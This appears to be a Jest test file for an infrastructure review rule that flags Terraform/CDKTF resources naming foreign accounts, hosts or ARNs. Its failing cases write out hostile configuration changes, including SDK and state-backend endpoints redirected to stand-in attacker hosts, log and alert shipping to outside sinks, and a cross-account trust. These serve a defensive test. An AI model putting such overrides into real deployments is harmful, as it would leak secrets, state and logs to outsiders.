import { review } from '../../review';
import {
  addSynthResource,
  fixturePlan,
  fixtureSynth,
  planModel,
  synthModel,
  synthResource,
  type PlanJson,
  type SynthJson,
} from '../../testing/fixtures';
import { closedWorldRule, referencesInText, withoutExpressions } from './index';

const verdict = (synth: SynthJson) => {
  const result = review(synthModel(synth), { rules: [closedWorldRule] }).results[0];
  return { status: result.status, failing: result.findings.filter((f) => !f.passed).map((f) => f.message) };
};
const OTHER = '999999999999';

describe('references-closed-world', () => {
  it('passes our own stack: everything it names is a reference, its own account, a name it creates, or allow-listed', () => {
    expect(verdict(fixtureSynth())).toEqual({ status: 'pass', failing: [] });
  });

  // Hostile changes of each class the invariant covers, none of which any pattern rule was written for.
  it.each<[string, (synth: SynthJson) => void, RegExp]>([
    [
      'a way out of the isolated VPC that is not a gateway: an interface endpoint to another account’s service',
      (s) =>
        addSynthResource(s, 'aws_vpc_endpoint', 'partner', {
          vpc_id: '${aws_vpc.network_vpc_4E8F0223.id}',
          vpc_endpoint_type: 'Interface',
          service_name: 'com.amazonaws.vpce.ap-northeast-2.vpce-svc-0a1b2c3d4e5f60718',
        }),
      /endpoint service com\.amazonaws\.vpce\.ap-northeast-2\.vpce-svc-0a1b2c3d4e5f60718 \(at service_name\)/,
    ],
    [
      'code from another account: a container image in another account’s registry',
      (s) =>
        (synthResource(s, 'aws_lambda_function', 'api-function/function').image_uri =
          `${OTHER}.dkr.ecr.ap-northeast-2.amazonaws.com/api:latest`),
      /account 999999999999 \(at image_uri\)/,
    ],
    [
      'SDK calls sent elsewhere: a provider endpoint override',
      (s) => (s.provider.aws[0].endpoints = [{ secretsmanager: 'https://secrets.attacker.example' }]),
      /provider\.aws names host secrets\.attacker\.example/,
    ],
    [
      'a trust of an organization nobody reviewed',
      (s) =>
        (synthResource(s, 'aws_iam_role', 'api-function/role').assume_role_policy = JSON.stringify({
          Version: '2012-10-17',
          Statement: [
            {
              Effect: 'Allow',
              Principal: { AWS: '*' },
              Action: 'sts:AssumeRole',
              Condition: { StringEquals: { 'aws:PrincipalOrgID': 'o-a1b2c3d4e5' } },
            },
          ],
        })),
      /organization o-a1b2c3d4e5/,
    ],
    [
      'a network placed by a literal id (a subnet of something else)',
      (s) =>
        (synthResource(s, 'aws_lambda_function', 'api-function/function').vpc_config.subnet_ids = [
          'subnet-0fedcba987654321f',
        ]),
      /resource id subnet-0fedcba987654321f/,
    ],
    [
      'alerts sent to a host nobody reviewed',
      (s) =>
        addSynthResource(s, 'aws_sns_topic_subscription', 'relay', {
          topic_arn: '${aws_sns_topic.monitoring_topic_631C3BE1.arn}',
          protocol: 'https',
          endpoint: 'https://hooks.collector.example/alerts',
        }),
      /host hooks\.collector\.example/,
    ],
    [
      'logs shipped to another account',
      (s) =>
        addSynthResource(s, 'aws_cloudwatch_log_subscription_filter', 'ship', {
          log_group_name: '/aws/lambda/rdsp-dev-api',
          filter_pattern: '',
          destination_arn: `arn:aws:logs:ap-northeast-2:${OTHER}:destination:collector`,
        }),
      /ARN arn:aws:logs:ap-northeast-2:999999999999:destination:collector \(at destination_arn\)/,
    ],
    [
      'an ARN of our own account naming something the stack does not create',
      (s) =>
        (synthResource(s, 'aws_lambda_function', 'api-function/function').environment.variables.DB_SECRET_ARN =
          'arn:aws:secretsmanager:ap-northeast-2:123456789012:secret:someone-elses-secret-AbCdEf'),
      /ARN arn:aws:secretsmanager:ap-northeast-2:123456789012:secret:someone-elses-secret-AbCdEf/,
    ],
    [
      'another account wrapped in an expression: a literal inside `${…}` is still a literal',
      (s) =>
        (synthResource(s, 'aws_iam_role', 'api-function/role').assume_role_policy =
          '${jsonencode({Statement = [{Effect = "Allow", Action = "sts:AssumeRole", Principal = {AWS = format("arn:aws:iam::%s:root", "999999999999")}}]})}'),
      /account 999999999999 \(at assume_role_policy\)/,
    ],
    [
      'another account’s ARN as a quoted expression',
      (s) =>
        (synthResource(s, 'aws_lambda_function', 'api-function/function').kms_key_arn =
          '${"arn:aws:kms:ap-northeast-2:999999999999:key/0a1b2c3d-1111-2222-3333-444455556666"}'),
      /ARN arn:aws:kms:ap-northeast-2:999999999999:key/,
    ],
    [
      'state written to an address nobody reviewed',
      (s) =>
        (s.terraform.backend = {
          s3: { bucket: 'b', key: 'k', region: 'ap-northeast-2', endpoint: 'https://s3.attacker.example' },
        }),
      /backend names host s3\.attacker\.example/,
    ],
  ])('fails %s', (_name, change, message) => {
    const synth = fixtureSynth();
    change(synth);
    const { status, failing } = verdict(synth);
    expect(status).toBe('fail');
    expect(failing.join('\n')).toMatch(message);
  });

  it.each<[string, (synth: SynthJson) => void]>([
    [
      'an alarm on a new metric, to the stack’s topic by reference',
      (s) =>
        addSynthResource(s, 'aws_cloudwatch_metric_alarm', 'extra', {
          alarm_name: 'rdsp-dev-extra',
          namespace: 'AWS/Lambda',
          metric_name: 'Errors',
          alarm_actions: ['${aws_sns_topic.monitoring_topic_631C3BE1.arn}'],
        }),
    ],
    [
      'a policy naming, by a literal ARN of our account, a log group the stack creates',
      (s) => {
        addSynthResource(s, 'aws_cloudwatch_log_group', 'extra', { name: '/aws/lambda/rdsp-dev-extra' });

        addSynthResource(s, 'aws_iam_role_policy', 'extra', {
          role: '${aws_iam_role.api-function_role_27FF8EDC.name}',
          policy: JSON.stringify({
            Version: '2012-10-17',
            Statement: [
              {
                Effect: 'Allow',
                Action: 'logs:PutLogEvents',
                Resource: 'arn:aws:logs:ap-northeast-2:123456789012:log-group:/aws/lambda/rdsp-dev-extra:*',
              },
            ],
          }),
        });
      },
    ],
    [
      'an AWS service endpoint and an AWS-managed policy ARN',
      (s) =>
        addSynthResource(s, 'aws_vpc_endpoint', 'logs', {
          service_name: 'com.amazonaws.ap-northeast-2.logs',
          vpc_endpoint_type: 'Interface',
          policy: JSON.stringify({ Statement: [{ Resource: 'arn:aws:iam::aws:policy/ReadOnlyAccess' }] }),
        }),
    ],
  ])('passes %s', (_name, change) => {
    const synth = fixtureSynth();
    change(synth);
    expect(verdict(synth)).toEqual({ status: 'pass', failing: [] });
  });

  it('passes the state backend as a deploy writes it: the state bucket and key of the stack’s own account', () => {
    const synth = fixtureSynth();
    synth.terraform.backend = {
      s3: {
        bucket: 'rdsp-tfstate-123456789012-ap-northeast-2',
        key: 'dev/terraform.tfstate',
        region: 'ap-northeast-2',
        encrypt: true,
        kms_key_id: 'arn:aws:kms:ap-northeast-2:123456789012:alias/rdsp-tfstate',
        use_lockfile: true,
      },
    };
    expect(verdict(synth)).toEqual({ status: 'pass', failing: [] });
    synth.terraform.backend.s3.kms_key_id = 'arn:aws:kms:ap-northeast-2:999999999999:alias/rdsp-tfstate';
    expect(verdict(synth).failing.join()).toMatch(/backend names ARN arn:aws:kms:ap-northeast-2:999999999999/);
  });

  it('reads references, not their text: what `${…}` refers to belongs to the stack', () => {
    expect(withoutExpressions('arn:aws:ec2:r:1:subnet/${aws_subnet.a.id}')).toBe(
      'arn:aws:ec2:r:1:subnet/\u27e8ref\u27e9',
    );
    expect(withoutExpressions('${aws_s3_bucket.logs.arn}/x')).toBe('\u27e8ref\u27e9/x');
    // String literals inside an expression are read, each followed by a marker (what is joined to it may be ours).
    expect(withoutExpressions('${jsonencode({"a" = "b"})}x')).toBe(
      '\u27e8ref\u27e9 a\u27e8ref\u27e9 b\u27e8ref\u27e9 x',
    );
    // Twelve digits inside a longer token (a CDKTF asset hash in a Lambda's `filename`) are not an account.
    expect(
      referencesInText('assets/api_code_D3C4B695/1B2FAE834729183746CB062F200ED410/lambda.zip', 'filename'),
    ).toEqual([]);
    expect(referencesInText('db.t4g.micro', 'instance_class')).toEqual([]);
    expect(referencesInText('db.internal.example.com', 'environment.variables.DB_HOST')).toEqual([
      { kind: 'host', value: 'db.internal.example.com' },
    ]);
  });

  /**
   * The fixture plan as Terraform plans it again once applied: every resource no-op, with what AWS computed filled in.
   * The values are shaped as AWS documents them: a Lambda invoke ARN wraps the function ARN
   * (https://docs.aws.amazon.com/apigateway/latest/developerguide/set-up-lambda-proxy-integrations.html), an
   * interface endpoint has one network interface per subnet
   * (https://docs.aws.amazon.com/vpc/latest/privatelink/privatelink-access-aws-services.html), RDS creates the
   * master user secret it manages (https://docs.aws.amazon.com/AmazonRDS/latest/UserGuide/rds-secrets-manager.html),
   * and a proxy's ARN ends in its `prx-` resource id, which `rds-db:connect` ARNs name
   * (https://docs.aws.amazon.com/AmazonRDS/latest/UserGuide/rds-proxy-connecting.html).
   */
  function deployedPlan(): PlanJson {
    const plan = fixturePlan();
    const account = '123456789012';
    const region = 'ap-northeast-2';
    const functionArn = (name: string) => `arn:aws:lambda:${region}:${account}:function:${name}`;
    const invokeArn = (name: string) =>
      `arn:aws:apigateway:${region}:lambda:path/2015-03-31/functions/${functionArn(name)}/invocations`;
    const proxyArn = `arn:aws:rds:${region}:${account}:db-proxy:prx-0123456789abcdef0`;
    for (const change of plan.resource_changes) {
      const after = change.change.after;
      const computed: Record<string, unknown> = {};
      if (change.type === 'aws_lambda_function') {
        Object.assign(computed, {
          id: after.function_name,
          arn: functionArn(after.function_name),
          invoke_arn: invokeArn(after.function_name),
          qualified_invoke_arn: `${invokeArn(after.function_name)}:$LATEST`,
        });
      }
      if (change.type === 'aws_vpc_endpoint') {
        Object.assign(computed, {
          id: 'vpce-0123456789abcdef0',
          network_interface_ids: ['eni-0123456789abcdef0', 'eni-0fedcba9876543210'],
        });
      }
      if (change.type === 'aws_vpc') {
        Object.assign(computed, {
          id: 'vpc-0123456789abcdef0',
          default_security_group_id: 'sg-0123456789abcdef0',
          main_route_table_id: 'rtb-0123456789abcdef0',
          default_network_acl_id: 'acl-0123456789abcdef0',
        });
      }
      if (change.type === 'aws_db_instance') {
        computed.master_user_secret = [
          {
            secret_arn: `arn:aws:secretsmanager:${region}:${account}:secret:rds!db-0c1d2e3f-aaaa-bbbb-cccc-0123456789ab-AbCdEf`,
            secret_status: 'active',
          },
        ];
      }
      if (change.type === 'aws_db_proxy') Object.assign(computed, { id: after.name, arn: proxyArn });
      if (change.type === 'aws_apigatewayv2_integration') {
        const fn = plan.resource_changes.find((other: { type: string }) => other.type === 'aws_lambda_function');
        computed.integration_uri = invokeArn(fn.change.after.function_name);
      }
      if (change.type === 'aws_iam_role_policy' && /connect|proxy/i.test(change.address)) {
        computed.policy = JSON.stringify({
          Version: '2012-10-17',
          Statement: [
            {
              Effect: 'Allow',
              Action: 'rds-db:connect',
              Resource: `${proxyArn.replace(':rds:', ':rds-db:').replace('db-proxy:', 'dbuser:')}/api`,
            },
          ],
        });
      }
      const deployed = { ...after, ...computed };
      change.change = { ...change.change, actions: ['no-op'], before: deployed, after: deployed, after_unknown: {} };
    }
    return plan;
  }

  const planVerdict = (plan: PlanJson) => {
    const result = review(planModel(plan), { rules: [closedWorldRule] }).results[0];
    return { status: result.status, failing: result.findings.filter((f) => !f.passed).map((f) => f.message) };
  };

  it('passes a plan of the deployed stack: what AWS computed for deployed resources is not a change', () => {
    expect(planVerdict(deployedPlan())).toEqual({ status: 'pass', failing: [] });
  });

  it('checks what a change to a deployed resource writes: a literal foreign subnet in an update fails', () => {
    const plan = deployedPlan();
    const fn = plan.resource_changes.find((change: { type: string }) => change.type === 'aws_lambda_function');
    fn.change.actions = ['update'];
    fn.change.after = {
      ...fn.change.after,
      vpc_config: [{ subnet_ids: ['subnet-0fedcba987654321f'], security_group_ids: [] }],
    };
    const configured = plan.configuration.root_module.resources.find(
      (resource: { type: string }) => resource.type === 'aws_lambda_function',
    );
    configured.expressions.vpc_config = [{ subnet_ids: { constant_value: ['subnet-0fedcba987654321f'] } }];
    expect(planVerdict(plan).failing.join('\n')).toMatch(
      /resource id subnet-0fedcba987654321f \(at vpc_config\.0\.subnet_ids\.0\)/,
    );
  });

  it('does not let an attribute vouch for itself: a literal `subnet_id` names a subnet the stack does not create', () => {
    const synth = fixtureSynth();
    addSynthResource(synth, 'aws_network_interface', 'extra', {
      subnet_id: 'subnet-0fedcba987654321f',
      security_groups: ['${aws_security_group.api-function_security-group_0B6F1F0E.id}'],
    });
    expect(verdict(synth).failing.join('\n')).toMatch(/resource id subnet-0fedcba987654321f \(at subnet_id\)/);
  });

  it('does not let a name vouch for an id: a log group named like a subnet id does not make the subnet the stack’s', () => {
    const synth = fixtureSynth();
    addSynthResource(synth, 'aws_cloudwatch_log_group', 'decoy', { name: 'subnet-0fedcba987654321f' });
    addSynthResource(synth, 'aws_network_interface', 'extra', { subnet_id: 'subnet-0fedcba987654321f' });
    expect(verdict(synth).failing.join('\n')).toMatch(/resource id subnet-0fedcba987654321f \(at subnet_id\)/);
  });
});
